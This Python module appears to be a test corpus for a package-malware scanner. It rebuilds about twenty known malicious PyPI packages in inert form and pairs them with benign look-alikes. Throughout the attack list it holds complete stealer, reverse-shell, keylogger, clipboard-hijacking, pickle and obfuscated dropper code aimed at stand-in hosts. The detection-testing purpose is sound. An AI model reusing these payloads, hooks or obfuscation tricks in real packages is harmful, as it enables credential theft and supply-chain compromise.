"""Attacks through Python packages, rewritten inert from their public descriptions."""
# ruff: noqa: E501, UP031 - a sample keeps the lines of what it shows

from __future__ import annotations

import base64
import pickle
import random
import zlib

from .packing import sdist, wheel

NOISE = random.Random(18)
QUIET = "print('inert')\n" * 8


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def png_with(payload: bytes) -> bytes:
    """A picture with a binary behind its end."""
    picture = (
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89"
        b"\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\0\0\x03\x01\x01\0\xc9\xfe\x92\xef\0\0\0\0IEND\xaeB`\x82"
    )
    return picture + payload


ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\0\x3e\0\x01\0\0\0" + b"\0" * 40 + NOISE.randbytes(4000)
MACHO = b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0" + b"\0" * 16 + NOISE.randbytes(4000)


class Reduced:
    """What a hostile pickle holds: a call that is made when it is loaded."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, ("curl -s http://192.0.2.15/m.sh | sh #inert",)


MODEL = pickle.dumps({"weights": [0.1, 0.2], "meta": Reduced()}, protocol=2)
PLAIN_MODEL = pickle.dumps({"weights": [0.1, 0.2, 0.3], "classes": ["cat", "dog"]}, protocol=4)


def reversed_layers(text: str, layers: int) -> str:
    """A script in layers of reversed base64 of zlib, as some obfuscators write it."""
    for _ in range(layers):
        packed = base64.b64encode(zlib.compress(text.encode()))[::-1]
        text = f"exec((_)({packed!r}))"
    return text


ATTACKS = [
    wheel(
        "ctx", "0.2.2",
        {
            "ctx.py": """
import os
import base64
import requests


class Ctx(dict):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.sendRequest()

    def sendRequest(self):
        string = ""
        for _, value in os.environ.items():
            string += value + " "
        message_bytes = string.encode('ascii')
        base64_bytes = base64.b64encode(message_bytes)
        base64_message = base64_bytes.decode('ascii')
        requests.get("https://anti-theft-web.example.invalid/hacked/" + base64_message)
""",
        },
        "ctx (May 2022): the whole environment leaves in an address when an object is made",
    ),
    wheel(
        "torchtriton", "3.0.0",
        {
            "triton/__init__.py": """
import os
import subprocess
_here = os.path.dirname(os.path.abspath(__file__))
try:
    subprocess.Popen([os.path.join(_here, 'runtime', 'triton')], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except Exception:
    pass
""",
            "triton/runtime/triton": ELF
            + b"\0/etc/passwd\0/etc/hosts\0.gitconfig\0.ssh\0gethostname\0getlogin\0.h4ck.example.invalid\0",
            "triton/runtime/collect.py": """
import os, socket, glob
def collect():
    out = [socket.gethostname(), os.getlogin(), os.getcwd(), str(dict(os.environ))]
    for name in ('/etc/resolv.conf', '/etc/passwd', os.path.expanduser('~/.gitconfig'), *glob.glob(os.path.expanduser('~/.ssh/*'))):
        try:
            out.append(open(name).read(99999))
        except OSError:
            pass
    data = '\\n'.join(out).encode().hex()
    for at in range(0, len(data), 62):
        try:
            socket.gethostbyname(data[at:at + 62] + '.h4ck.example.invalid')
        except OSError:
            pass
collect()
""",
        },
        "torchtriton (December 2022): dependency confusion; hosts, environment and keys leave through DNS",
    ),
    sdist(
        "typesutil", "0.1.3",
        {
            "setup.py": "from setuptools import setup\n\nsetup(name='typesutil', version='0.1.3', packages=['typesutil'])\n",
            "typesutil/__init__.py": "import os, sys" + " " * 318
            + ";__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode(\""
            + b64(
                "from tempfile import NamedTemporaryFile as _ffile\nfrom sys import executable as _eexecutable\n"
                "from os import system as _ssystem\n_ttmp = _ffile(delete=False)\n_ttmp.write(b\"\"\"from urllib.request "
                "import urlopen as _uurlopen;exec(_uurlopen('http://wasp.example.invalid/inject/inert').read())\"\"\")\n"
                "_ttmp.close()\ntry: _ssystem(f\"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}\")\n"
                "except: pass\n"
            )
            + "\"),'<string>','exec'))\n\ndef check(x):\n    return type(x)\n",
        },
        "W4SP stealer (November 2022): an exec of base64 behind blanks, which writes a script that runs a download",
        label="w4sp",
    ),
    sdist(
        "colourama", "0.1.6",
        {
            "colourama/__init__.py": "from colorama import *\n",
            "setup.py": """
import os
import platform
import subprocess
import base64
import urllib.request
from setuptools import setup

VBS = '''
Set html = CreateObject("htmlfile")
Do While True
  WScript.Sleep 1000
  text = html.ParentWindow.ClipboardData.GetData("text")
  If Not IsNull(text) And Len(text) >= 26 And Len(text) <= 35 And Left(text, 1) = "1" Then
    CreateObject("WScript.Shell").Run "cmd /c echo 1inertinertinertinertinertinert| clip", 0
  End If
Loop
'''

if platform.system() == "Windows":
    path = os.path.join(os.environ["APPDATA"], "Microsoft", "winservice.vbs")
    try:
        VBS = urllib.request.urlopen("http://gist.example.invalid/code.txt").read().decode()
    except Exception:
        pass
    with open(path, "w") as handle:
        handle.write(VBS)
    subprocess.call(["reg", "add", r"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "/v", "Windows Service", "/t", "REG_SZ", "/d", 'wscript.exe "' + path + '"', "/f"])
    subprocess.Popen(["wscript.exe", path])

setup(name="colourama", version="0.1.6", packages=["colourama"])
""",
        },
        "colourama (2018): swaps Bitcoin addresses in the clipboard, starts again through the registry",
    ),
    wheel(
        "discord-token-manager", "0.0.4",
        {
            "discord_token_manager/__init__.py": """
import os
import re
import json
from urllib.request import Request, urlopen
from base64 import b64decode
from Crypto.Cipher import AES
from win32crypt import CryptUnprotectData

LOCAL = os.getenv('LOCALAPPDATA')
ROAMING = os.getenv('APPDATA')
PATHS = {
    'Discord': ROAMING + '\\\\discord',
    'Discord Canary': ROAMING + '\\\\discordcanary',
    'Google Chrome': LOCAL + '\\\\Google\\\\Chrome\\\\User Data\\\\Default',
    'Brave': LOCAL + '\\\\BraveSoftware\\\\Brave-Browser\\\\User Data\\\\Default',
}

def get_key(path):
    with open(path + '\\\\Local State') as f:
        return CryptUnprotectData(b64decode(json.loads(f.read())['os_crypt']['encrypted_key'])[5:], None, None, None, 0)[1]

def decrypt(buff, key):
    return AES.new(key, AES.MODE_GCM, buff[3:15]).decrypt(buff[15:])[:-16].decode()

def main():
    tokens = []
    for name, path in PATHS.items():
        if not os.path.exists(path):
            continue
        leveldb = path + '\\\\Local Storage\\\\leveldb\\\\'
        for file in os.listdir(leveldb):
            if not file.endswith(('.ldb', '.log')):
                continue
            for line in open(leveldb + file, errors='ignore'):
                for y in re.findall(r"dQw4w9WgXcQ:[^\\"]*", line):
                    tokens.append(decrypt(b64decode(y.split('dQw4w9WgXcQ:')[1]), get_key(path)))
    urlopen(Request('https://@discord@', data=json.dumps({'content': '\\n'.join(tokens)}).encode(), headers={'Content-Type': 'application/json'}))

try:
    main()
except Exception:
    pass
""",
        },
        "Discord token grabbers on PyPI (2021 and later)",
    ),
    wheel(
        "ultralytics", "8.3.41",
        {
            "ultralytics/__init__.py": "__version__ = '8.3.41'\n",
            "ultralytics/utils/downloads.py": """
import os
import platform
import subprocess
import tempfile
from pathlib import Path
from urllib import request


def safe_run(path):
    os.chmod(path, 0o770)
    command = [path, '-u', '4BHRinertinertinertinertinert', '-o', 'connect.pool.example.invalid:8080', '-k']
    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setsid, close_fds=True)
    os.remove(path)


def safe_download(url, file=None):
    request.urlretrieve(url, file)
    return Path(file)


def attempt():
    environment = platform.system(), platform.machine()
    names = {('Linux', 'x86_64'): 'ultralytics_linux', ('Darwin', 'arm64'): 'ultralytics_darwin'}
    if environment in names:
        target = os.path.join(tempfile.gettempdir(), 'ultralytics_runner')
        safe_run(safe_download('https://cdn.example.invalid/' + names[environment], target))


attempt()
""",
        },
        "ultralytics 8.3.41 and 8.3.42 (December 2024): a miner downloaded by code added in the build",
    ),
    wheel(
        "litellm", "1.82.8",
        {
            "litellm/__init__.py": "__version__ = '1.82.8'\n",
            "litellm_init.pth": "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; "
            "exec(base64.b64decode('"
            + b64(
                "import os, glob, json, urllib.request\nout = dict(os.environ)\n"
                "for p in ('~/.ssh/id_rsa', '~/.aws/credentials', '~/.kube/config', '~/.git-credentials'):\n"
                "    p = os.path.expanduser(p)\n    if os.path.exists(p): out[p] = open(p).read()\n"
                "urllib.request.urlopen(urllib.request.Request('https://models.example.invalid/', data=json.dumps(out).encode()))\n"
            )
            + "'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
        },
        "litellm 1.82.8 (March 2026): a .pth file that runs a stealer whenever Python starts",
    ),
    wheel(
        "aiocpa", "0.1.13",
        {
            "aiocpa/__init__.py": "from .utils.sync import *\n",
            "aiocpa/utils/__init__.py": "",
            "aiocpa/utils/sync.py": "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));"
            + reversed_layers(
                "from functools import wraps\ndef init(cls):\n    old = cls.__init__\n    def new(self, token, *a, **k):\n"
                "        import requests\n        requests.post('https://@telegram@/sendMessage', data={'chat_id': 1, 'text': token})\n"
                "        old(self, token, *a, **k)\n    cls.__init__ = new\n    return cls\n",
                12,
            )
            + "\n",
        },
        "aiocpa 0.1.13 (November 2024): tokens of a crypto bot leave by Telegram, behind layers of reversed zlib and base64",
    ),
    sdist(
        "requests-darwin-lite", "2.27.1",
        {
            "requests/__init__.py": "__version__ = '2.27.1'\n",
            "docs/_static/requests-sidebar-large.png": png_with(MACHO),
            "setup.py": """
import os
import subprocess
from setuptools import setup
from setuptools.command.install import install


class PyInstall(install):
    def run(self):
        import base64
        if sys.platform == 'darwin':
            command = 'system_profiler SPHardwareDataType | grep UUID'
            output = subprocess.check_output(command, shell=True).decode()
            if '08383A8F-DA4B-5783-A262-4DDC93169C52' in output:
                dest = os.path.expanduser('~/.assay-inert/output')
                with open('docs/_static/requests-sidebar-large.png', 'rb') as f_in:
                    content = f_in.read()
                    start = content.index(b'\\xcf\\xfa\\xed\\xfe')
                    with open(dest, 'wb') as f_out:
                        f_out.write(content[start:])
                os.chmod(dest, 0o777)
                subprocess.Popen([dest, '-inert'])
        install.run(self)


setup(name='requests-darwin-lite', version='2.27.1', packages=['requests'], cmdclass={'install': PyInstall})
""",
        },
        "requests-darwin-lite (May 2024): a binary behind the end of a PNG, started for one machine at installation",
    ),
    wheel(
        "pyhelperutils", "1.0.1",
        {
            "pyhelperutils/__init__.py": "import base64\n\nVERSION = '1.0.1'\nexec(base64.b64decode('"
            + b64("import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.44/p.py').read())\n" + QUIET)
            + "').decode('utf-8'))\n",
        },
        "base64 evaluated in __init__.py (hundreds of packages)",
        label="base64-init",
    ),
    wheel(
        "termcolour", "2.0.0",
        {
            "termcolour/__init__.py": "import this" + " " * 640
            + ";exec(__import__('urllib.request').request.urlopen('http://203.0.113.77/s').read())\n"
            "def colored(text, color=None):\n    return text\n",
        },
        "payloads pushed out of sight by blanks behind an innocent statement (2022 and later)",
        label="hidden-blanks",
    ),
    wheel(
        "tinyclassifier", "0.3.0",
        {
            "tinyclassifier/__init__.py": """
import pickle
from importlib.resources import files

MODEL = pickle.loads(files(__package__).joinpath('model.pkl').read_bytes())
""",
            "tinyclassifier/model.pkl": MODEL,
        },
        "models as pickles that call os.system when they are loaded (Hugging Face and PyPI, 2023 to 2025)",
        label="pickle-reduce",
    ),
    sdist(
        "importantpackage", "3.6.9",
        {
            "importantpackage/__init__.py": "",
            "setup.py": """
import os
import socket
import json
import urllib.request
from setuptools import setup
from setuptools.command.egg_info import egg_info


class Hook(egg_info):
    def run(self):
        egg_info.run(self)
        info = {'host': socket.gethostname(), 'user': os.environ.get('USER'), 'cwd': os.getcwd(), 'env': dict(os.environ)}
        request = urllib.request.Request('https://collect.example.invalid/beacon', data=json.dumps(info).encode())
        urllib.request.urlopen(request, timeout=5)


setup(name='importantpackage', version='3.6.9', packages=['importantpackage'], cmdclass={'egg_info': Hook})
""",
        },
        "egg_info override (2021 and later): runs already when pip only looks at the metadata",
        label="egg-info",
    ),
    sdist(
        "shellpy-utils", "0.0.2",
        {
            "shellpy/__init__.py": "",
            "setup.py": """
from setuptools import setup
from setuptools.command.install import install
import socket, subprocess, os, pty, threading


class CustomInstall(install):
    def run(self):
        install.run(self)
        def connect():
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("198.51.100.10", 9001))
            os.dup2(s.fileno(), 0)
            os.dup2(s.fileno(), 1)
            os.dup2(s.fileno(), 2)
            pty.spawn("/bin/bash")
        threading.Thread(target=connect).start()


setup(name="shellpy-utils", version="0.0.2", packages=["shellpy"], cmdclass={"install": CustomInstall})
""",
        },
        "reverse shells in setup.py (many packages)",
        label="reverse-shell",
    ),
    wheel(
        "sysinfo-telemetry", "1.1.0",
        {
            "sysinfo_telemetry/__init__.py": """
import os
import platform
import getpass
import glob
import requests

TOKEN, CHAT = '0000000000:inert', '-100000000'


def _send(path):
    with open(path, 'rb') as handle:
        requests.post('https://@telegram@/sendDocument', data={'chat_id': CHAT}, files={'document': handle})


def _start():
    requests.get('https://@telegram@/sendMessage', params={'chat_id': CHAT, 'text': f'{getpass.getuser()}@{platform.node()}'})
    for pattern in ('~/Desktop/*.txt', '~/.ssh/id_*', '~/Documents/*.kdbx', '~/.config/solana/id.json'):
        for path in glob.glob(os.path.expanduser(pattern)):
            _send(path)


_start()
""",
        },
        "Telegram bots that receive files of the victim (2023 and later)",
        label="telegram-files",
    ),
    sdist(
        "acme-internal-auth", "9999.0.0",
        {
            "acme/__init__.py": "",
            "setup.py": """
from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install
import requests, socket, getpass, os


def ping():
    ploads = {'hostname': socket.gethostname(), 'cwd': os.getcwd(), 'username': getpass.getuser()}
    requests.get("https://@webhook@", params=ploads)


class A(install):
    def run(self):
        install.run(self)
        ping()


class B(develop):
    def run(self):
        develop.run(self)
        ping()


setup(name='acme-internal-auth', version='9999.0.0', cmdclass={'install': A, 'develop': B})
""",
        },
        "dependency confusion with webhook.site (2021 and later)",
        label="webhook-site",
    ),
    wheel(
        "fastproxy-lib", "0.4.1",
        {
            "fastproxy/__init__.py": """
import requests

try:
    stage = requests.get('https://@pastebin@').text
    exec(compile(stage, '<stage>', 'exec'))
except Exception:
    pass
""",
        },
        "second stages kept on Pastebin (many packages)",
        label="pastebin-stage",
    ),
    sdist(
        "pywinutils", "1.0.0",
        {
            "pywinutils/__init__.py": "",
            "setup.py": "import os, subprocess\nfrom setuptools import setup\n\nif os.name == 'nt':\n"
            "    subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand "
            + base64.b64encode(
                "Invoke-WebRequest -Uri 'http://dl.example.invalid/Esquele.exe' -OutFile \"$env:TEMP\\\\E.exe\"; "
                "Start-Process \"$env:TEMP\\\\E.exe\"".encode("utf-16-le")
            ).decode()
            + "', shell=False, creationflags=subprocess.CREATE_NO_WINDOW)\n\nsetup(name='pywinutils', version='1.0.0')\n",
        },
        "PowerShell droppers in setup.py (esqueletosquad, January 2023)",
        label="powershell-dropper",
    ),
    wheel(
        "keyboard-shortcuts-pro", "1.2.0",
        {
            "keyboard_shortcuts_pro/__init__.py": """
import smtplib
import threading
from pynput.keyboard import Listener
from PIL import ImageGrab

log = ''


def on_press(key):
    global log
    log += str(key).replace("'", '')


def report():
    global log
    ImageGrab.grab().save('/tmp/.s.png')
    server = smtplib.SMTP('smtp.example.invalid', 587)
    server.starttls()
    server.login('drop@example.invalid', 'inert')
    server.sendmail('drop@example.invalid', 'drop@example.invalid', log)
    log = ''
    threading.Timer(60, report).start()


Listener(on_press=on_press).start()
report()
""",
        },
        "key loggers on PyPI that report by mail (2022 and later)",
        label="keylogger",
    ),
    sdist(
        "requesst", "2.28.2",
        {
            "requesst/__init__.py": "from requests import *\n",
            "setup.py": "from setuptools import setup\nfrom setuptools.command.install import install\n\n\n"
            "class R(install):\n    def run(self):\n        import os\n        if os.name == 'nt':\n"
            "            from fernet import Fernet\n            exec(Fernet(b'aW5lcnRpbmVydGluZXJ0aW5lcnRpbmVydGluZXJ0aW4=')"
            ".decrypt(b'gAAAAABmA" + base64.urlsafe_b64encode(NOISE.randbytes(420)).decode() + "'))\n"
            "        install.run(self)\n\n\nsetup(name='requesst', version='2.28.2', cmdclass={'install': R})\n",
        },
        "the look-alike campaign of March 2024: a Fernet-encrypted payload evaluated at installation",
        label="fernet-exec",
    ),
    wheel(
        "fabrice", "0.0.5",
        {
            "fabrice/__init__.py": """
import base64
import os
import platform
import boto3
import urllib.request
import subprocess


def test():
    session = boto3.Session()
    credentials = session.get_credentials()
    access_key = credentials.access_key
    secret_key = credentials.secret_key
    urllib.request.urlopen('http://203.0.113.130:80/?a=' + access_key + '&s=' + secret_key)


def winThread(url, target):
    d = urllib.request.urlopen(url).read()
    vbs = os.path.join(os.getcwd(), 'p.vbs')
    with open(vbs, 'w') as f:
        f.write('Set o = CreateObject("WScript.Shell")\\no.Run "python ' + target + '", 0')
    with open(target, 'wb') as f:
        f.write(d)
    subprocess.call(['wscript.exe', vbs])
    os.system('schtasks /create /sc minute /mo 15 /tn "chromeUpdate" /tr "' + target + '"')


def linuxThread(url, name):
    home = os.path.expanduser('~/.local/bin/vscode')
    os.makedirs(home, exist_ok=True)
    with open(os.path.join(home, name), 'wb') as f:
        f.write(urllib.request.urlopen(url).read())
    os.chmod(os.path.join(home, name), 0o755)
    subprocess.Popen([os.path.join(home, name)])


test()
if platform.system() == 'Windows':
    winThread('http://203.0.113.130:80/ugwinvbs', 'd.py')
else:
    linuxThread('http://203.0.113.130:80/per.sh', 'per.sh')
""",
        },
        "fabrice (November 2024): cloud keys leave, hidden folders and a scheduled task",
    ),
    sdist(
        "mathlib-extended", "0.9.9",
        {
            "mathlib/__init__.py": "",
            "mathlib/native.c": "int add(int a, int b) { return a + b; }\n",
            "setup.py": """
import os, sys, subprocess, tempfile
from setuptools import setup

JS = "require('child_process').exec(Buffer.from('%s','base64').toString())"
SH = '''#!/bin/sh
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsS http://192.0.2.200/b | sh") | crontab -
'''
try:
    subprocess.Popen(['node', '-e', JS])
except OSError:
    with tempfile.NamedTemporaryFile('w', suffix='.sh', delete=False) as script:
        script.write(SH)
    os.system('sh ' + script.name + ' >/dev/null 2>&1 &')
os.remove(os.path.abspath(__file__))
setup(name='mathlib-extended', version='0.9.9', packages=['mathlib'])
"""
            % b64("curl -fsS http://192.0.2.200/b | sh"),
        },
        "several languages in one dropper that removes itself (composed of incidents of 2023 to 2025)",
        label="multi-language",
    ),
]  # fmt: skip

TWINS = [
    sdist(
        "fast-diff-c", "1.1.0",
        {
            "fastdiff/__init__.py": "from ._fastdiff import diff\n",
            "src/fastdiff.c": "#include <Python.h>\n",
            "setup.py": """
import os
import subprocess
import sys
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext


class BuildExt(build_ext):
    def build_extensions(self):
        if sys.platform != 'win32':
            flags = subprocess.run(['pkg-config', '--cflags', 'zlib'], capture_output=True, text=True).stdout.split()
            for extension in self.extensions:
                extension.extra_compile_args += flags
        super().build_extensions()


setup(
    name='fast-diff-c',
    version=os.environ.get('FASTDIFF_VERSION', '1.1.0'),
    ext_modules=[Extension('fastdiff._fastdiff', ['src/fastdiff.c'])],
    cmdclass={'build_ext': BuildExt},
)
""",
        },
        "twin of setup.py attacks: asks pkg-config and builds an extension",
        label="twin-setup",
    ),
    wheel(
        "editable-paths", "1.0.0",
        {
            "editable_paths/__init__.py": "",
            "editable_paths-nspkg.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
            "'local'; enabled and __import__('_distutils_hack').add_shim()\n",
        },
        "twin of the .pth attack: the one that setuptools itself brings",
        label="twin-pth",
    ),
    wheel(
        "icon-bundle", "2.3.0",
        {
            "icon_bundle/__init__.py": "import base64\nimport zlib\n\nLOGO = zlib.decompress(base64.b64decode('"
            + base64.b64encode(zlib.compress(png_with(b""))).decode()
            + "'))\n\n\ndef logo() -> bytes:\n    return LOGO\n",
        },
        "twin of base64 payloads: a picture that is decoded and never run",
        label="twin-base64",
    ),
    wheel(
        "chat-notifier", "0.8.0",
        {
            "chat_notifier/__init__.py": """
import os
import requests


class Notifier:
    def __init__(self, token=None, chat=None):
        self.token = token or os.environ['TELEGRAM_TOKEN']
        self.chat = chat or os.environ['TELEGRAM_CHAT']

    def send(self, text, timeout=10):
        url = f'https://api.telegram.example/bot{self.token}/sendMessage'
        return requests.post(url, data={'chat_id': self.chat, 'text': text}, timeout=timeout)
""",
        },
        "twin of Telegram exfiltration: a client with the caller's own token",
        label="twin-telegram",
    ),
    wheel(
        "hotkey-listener", "1.0.1",
        {
            "hotkey_listener/__init__.py": """
from pynput import keyboard


def listen(hotkeys):
    with keyboard.GlobalHotKeys(hotkeys) as listener:
        listener.join()
""",
        },
        "twin of the key logger: named hot keys for the caller",
        label="twin-hotkeys",
    ),
    wheel(
        "tinymodel", "0.2.0",
        {
            "tinymodel/__init__.py": """
import pickle
from pathlib import Path


def load():
    with (Path(__file__).parent / 'weights.pkl').open('rb') as handle:
        return pickle.load(handle)
""",
            "tinymodel/weights.pkl": PLAIN_MODEL,
        },
        "twin of the hostile pickle: plain lists and texts",
        label="twin-pickle",
    ),
    wheel(
        "cloud-profile", "1.5.0",
        {
            "cloud_profile/__init__.py": """
import configparser
import os
from pathlib import Path


def region(profile='default'):
    parser = configparser.ConfigParser()
    parser.read(Path(os.environ.get('AWS_CONFIG_FILE', '~/.aws/config')).expanduser())
    return parser.get(profile, 'region', fallback=os.environ.get('AWS_REGION', 'us-east-1'))
""",
        },
        "twin of cloud key theft: reads the region of a profile, sends nothing",
        label="twin-cloud",
    ),
]  # fmt: skip
